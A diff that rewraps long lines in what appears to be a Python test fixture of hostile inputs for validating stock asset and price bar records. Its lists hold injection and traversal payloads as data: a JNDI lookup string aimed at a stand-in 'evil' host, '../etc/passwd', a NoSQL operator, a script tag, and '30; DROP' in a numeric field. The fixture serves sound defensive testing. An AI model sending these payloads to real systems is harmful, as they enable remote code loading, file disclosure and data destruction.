@@ -26,7 +26,8 @@ INJECTION = [
     "SET #s = :x REMOVE asset_id", "ASSET#AAPL", "AAPL#1Day", '{"$ne": null}', "${jndi:ldap://evil/a}",
     "<script>alert(1)</script>", "%00", "AAPL%2F..%2F",
 ]
-PATHS = ["../etc/passwd", "..", "/", "AAPL/", "/AAPL", "A//B", "A/../B", "..\\..\\windows", "C:\\AAPL", "\\\\host\\share"]
+PATHS = ["../etc/passwd", "..", "/", "AAPL/", "/AAPL", "A//B", "A/../B", "..\\..\\windows", "C:\\AAPL",
+         "\\\\host\\share"]
 # Invisible characters real listings carry in names (a soft hyphen), and others of Unicode's category Cf or Cs.
 INVISIBLE = [
     "Foo\u00adbar Inc. Common Stock", "Zero\u200bWidth Corp", "\ufeffBOM Holdings", "Word\u2060Joiner Ltd",
@@ -100,10 +101,12 @@ def hostile_assets() -> list[HostileAsset]:
         *_spoiled("NaN and infinity", "tradable", NON_FINITE[:1]),
         *_spoiled("wrong types", "symbol", [*WRONG_TYPES, None]), *_spoiled("wrong types", "id", [*WRONG_TYPES, None]),
         *_spoiled("wrong types", "exchange", [*WRONG_TYPES, None]),
-        *_spoiled("wrong types", "class", [*WRONG_TYPES, None]), *_spoiled("wrong types", "status", [*WRONG_TYPES, None]),
+        *_spoiled("wrong types", "class", [*WRONG_TYPES, None]),
+        *_spoiled("wrong types", "status", [*WRONG_TYPES, None]),
         *_spoiled("wrong types", "tradable", ["true", 1, 0, None, [], {}]),
         *_spoiled("wrong types", "fractionable", ["false", 1]),
-        *_spoiled("wrong types", "price_increment", [True, [], {"N": "1"}, "0x1A", "1_000", "\uff19", "-1", "30; DROP"]),
+        *_spoiled("wrong types", "price_increment",
+                  [True, [], {"N": "1"}, "0x1A", "1_000", "\uff19", "-1", "30; DROP"]),
         *_spoiled("wrong types", "attributes", ["has_options", {"a": 1}, [1], [None], [["nested"]], [True]]),
         *[HostileAsset("wrong types", "row", row) for row in (None, [], "AAPL", 42, True, ["AAPL"])],
     ]
@@ -164,7 +167,8 @@ WARNED_BARS = [HostileBar("vwap outside the range", "vw", 1e300), HostileBar("vw
 # naming its field, the page's other bars are stored.
 MISTYPED_BARS = [
     HostileBar("wrong types", "o", True), HostileBar("wrong types", "o", None), HostileBar("wrong types", "c", "101.5"),
-    HostileBar("wrong types", "h", [1]), HostileBar("wrong types", "l", {"v": 1}), HostileBar("wrong types", "v", False),
+    HostileBar("wrong types", "h", [1]), HostileBar("wrong types", "l", {"v": 1}),
+    HostileBar("wrong types", "v", False),
     HostileBar("wrong types", "n", 1.5), HostileBar("wrong types", "n", "3"), HostileBar("wrong types", "vw", "x"),
     HostileBar("wrong types", "t", None), HostileBar("wrong types", "t", 1717387200),
     HostileBar("huge numbers", "o", 10**400), HostileBar("huge numbers", "n", 10**30),
